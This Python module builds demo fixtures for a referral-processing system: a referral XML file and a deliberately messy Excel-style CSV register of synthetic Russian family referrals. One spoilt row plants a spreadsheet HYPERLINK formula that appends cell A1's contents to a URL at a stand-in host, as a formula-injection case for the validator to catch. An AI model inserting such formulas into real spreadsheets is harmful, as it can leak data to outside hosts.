"""The two files of the demo story, built from synthetic persons: a referral as XML, and a register of referrals the way
Excel in Russia saves it. Both are read back by the same adapters that read partners' files.
"""

from __future__ import annotations

import csv
from collections.abc import Sequence
from dataclasses import dataclass
from datetime import date
from io import StringIO
from typing import Final

from adapters.tables.dates import russian, russian_partial
from adapters.xml.writer import write_referral
from schemas.identifiers import format_snils
from schemas.messages import MessageDraft, PersonDraft

ENCODING: Final = "cp1251"
FEWEST_ROWS: Final = 6
_FULL_DATE: Final = len("2020-01-31")

_HEADINGS: Final = (
    "№ п/п",
    "Исходящий номер",
    "Дата исходящего",
    "ОГРН отправителя",
    "ОГРН получателя",
    "Ребенок: ФИО",
    "Ребенок: СНИЛС",
    "Ребенок: дата рождения",
    "Ребенок: пол",
    "Родитель: ФИО",
    "Родитель: роль",
    "Родитель: телефон",
    "Срочность",
    "Причина обращения (код)",
    "Причина обращения",
    "Запрашиваемые меры",
    "Примечание",
)
_TITLES: Final = (
    ("Реестр направлений семей на сопровождение (СИНТЕТИЧЕСКИЕ ДАННЫЕ)",),
    ("за отчётный месяц",),
    (),
)
_URGENCY: Final = {"emergency": "экстренно", "urgent": "Срочно", "planned": "планово"}
_SEX: Final = {"M": "М", "F": "жен.", "U": "неизвестен"}
_ROLE: Final = {"mother": "мать", "father": "отец", "guardian": "опекун", "foster_parent": "приёмный родитель"}


@dataclass(frozen=True, slots=True)
class BadRow:
    """A row spoilt on purpose: its line in the file, its column, and the rule code the report must name."""

    line: int
    column: str
    rule: str


@dataclass(frozen=True, slots=True)
class MessyRegister:
    """A register of `good` rows that become referrals and `bad` rows that must not."""

    content: bytes
    good: int
    bad: tuple[BadRow, BadRow, BadRow]


def referral_xml(draft: MessageDraft) -> bytes:
    """The referral of the story as a document by our XSD."""
    return write_referral(draft)


def messy_register(drafts: Sequence[MessageDraft]) -> MessyRegister:
    """One row per draft (one child each): title rows, a row of column numbers, a total, apostrophes, dd.mm.yyyy, an
    Excel serial date, a lost leading zero; and three rows spoilt: a SNILS in scientific notation, a formula, a year of
    two digits. All other rows are good.

    Raises ValueError for fewer than six drafts, a draft without exactly one child with name, birth date and SNILS, or
    drafts none of which has a SNILS that begins with zero, since one of them must lose it.
    """
    if len(drafts) < FEWEST_ROWS:
        msg = f"a messy register needs at least {FEWEST_ROWS} drafts"
        raise ValueError(msg)
    rows = [_row(number, draft) for number, draft in enumerate(drafts, start=1)]
    zero = _lose_a_zero(rows)
    spoilt = [index for index in range(1, len(rows)) if index != zero]
    scientific, formula, two_digits = spoilt[0], spoilt[len(spoilt) // 2], spoilt[-1]
    serial = next(index for index in range(len(rows)) if index not in (zero, scientific, formula, two_digits))
    _serialise(rows[serial])
    rows[scientific]["Ребенок: СНИЛС"] = _as_scientific(rows[scientific]["Ребенок: СНИЛС"])
    rows[formula]["Запрашиваемые меры"] = '=HYPERLINK("http://example.org/?"&A1;"подробнее")'
    birth = rows[two_digits]["Ребенок: дата рождения"]
    rows[two_digits]["Ребенок: дата рождения"] = birth[:-4] + birth[-2:]
    first_line = len(_TITLES) + 3  # after the titles: headings, column numbers, then data
    return MessyRegister(
        _write(rows),
        len(rows) - 3,
        (
            BadRow(first_line + scientific, "Ребенок: СНИЛС", "scientific_notation"),
            BadRow(first_line + formula, "Запрашиваемые меры", "formula_in_cell"),
            BadRow(first_line + two_digits, "Ребенок: дата рождения", "two_digit_year"),
        ),
    )


def _row(number: int, draft: MessageDraft) -> dict[str, str]:
    child = _only_child(draft)
    identity, identifiers = child.identity, child.identifiers
    born = (identity.birth_date if identity else None) or ""
    if (
        identity is None
        or identifiers is None
        or not (identity.full_name and identifiers.snils and len(born) == _FULL_DATE)
    ):
        msg = "a child of the register needs a name, a full birth date and a SNILS"
        raise ValueError(msg)
    adult = next((person for person in draft.persons if person.kind == "parent"), None)
    return {
        "№ п/п": str(number),
        "Исходящий номер": draft.reg_number or "",
        "Дата исходящего": russian(draft.reg_on) if draft.reg_on else "",
        "ОГРН отправителя": f"'{draft.sender_ogrn}",
        "ОГРН получателя": f"'{draft.recipient_ogrn}",
        "Ребенок: ФИО": f" {identity.full_name}\u00a0",
        "Ребенок: СНИЛС": format_snils(identifiers.snils),
        "Ребенок: дата рождения": russian_partial(born),
        "Ребенок: пол": _SEX.get(identity.sex or "", ""),
        "Родитель: ФИО": (adult.identity.full_name if adult and adult.identity else None) or "",
        "Родитель: роль": _ROLE.get(adult.role or "", "") if adult else "",
        "Родитель: телефон": _phone(adult),
        "Срочность": _URGENCY[draft.urgency],
        "Причина обращения (код)": "|".join(draft.concerns),
        "Причина обращения": draft.statement or "",
        "Запрашиваемые меры": draft.requested_action or "",
        "Примечание": "",
    }


def _only_child(draft: MessageDraft) -> PersonDraft:
    children = [person for person in draft.persons if person.kind == "child"]
    if len(children) != 1:
        msg = "a row of the register carries exactly one child"
        raise ValueError(msg)
    return children[0]


def _phone(adult: PersonDraft | None) -> str:
    phones = adult.contact.phones if adult and adult.contact else ()
    return f"'{phones[0].number}" if phones else ""


def _lose_a_zero(rows: list[dict[str, str]]) -> int:
    for index, row in enumerate(rows):
        digits = row["Ребенок: СНИЛС"].replace("-", "").replace(" ", "")
        if digits.startswith("0") and not digits.startswith("000"):
            row["Ребенок: СНИЛС"] = digits.lstrip("0")
            return index
    msg = "none of the children has a SNILS that begins with zero"
    raise ValueError(msg)


def _serialise(row: dict[str, str]) -> None:
    day, month, year = row["Ребенок: дата рождения"].split(".")
    row["Ребенок: дата рождения"] = str((date(int(year), int(month), int(day)) - date(1899, 12, 30)).days)


def _as_scientific(snils: str) -> str:
    digits = snils.replace("-", "").replace(" ", "").lstrip("0")
    return f"{digits[0]},{digits[1:6]}E+{len(digits) - 1}"


def _write(rows: list[dict[str, str]]) -> bytes:
    out = StringIO(newline="")
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    width = len(_HEADINGS)
    for title in _TITLES:
        writer.writerow([*title, *[""] * (width - len(title))])
    writer.writerow(_HEADINGS)
    writer.writerow(range(1, width + 1))
    for row in rows:
        writer.writerow([row[heading] for heading in _HEADINGS])
    writer.writerow(["Итого", len(rows), *[""] * (width - 2)])
    return out.getvalue().encode(ENCODING)
